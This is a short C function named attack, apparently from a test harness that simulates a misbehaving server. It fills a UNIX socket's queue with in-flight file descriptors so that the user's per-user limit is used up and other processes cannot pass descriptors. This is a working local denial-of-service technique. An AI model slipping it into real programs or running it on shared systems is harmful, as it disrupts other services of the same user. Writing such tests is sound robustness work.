/* Each of its servers that are started without faults keeps as many descriptors as it can in the
 * queue of a socket. Otherwise it is correct. The kernel counts them per user, and a process whose
 * user has more than its RLIMIT_NOFILE in flight cannot send any, unix(7). */
#include <fcntl.h>
#include <sys/resource.h>
static void attack(void)
{
    enum { IN_A_MESSAGE = 253, MESSAGES = 200 };
    if (!is_plain_start())
        return;
    struct rlimit limit, before;
    getrlimit(RLIMIT_NOFILE, &before);
    limit = before;
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    int ends[2], fd = open("/dev/null", O_RDONLY);
    socketpair(AF_UNIX, SOCK_STREAM, 0, ends);
    for (int i = 0; i < MESSAGES && send_descriptor(ends[0], fd, IN_A_MESSAGE) != -1; i++)
        ;
    setrlimit(RLIMIT_NOFILE, &before);
}
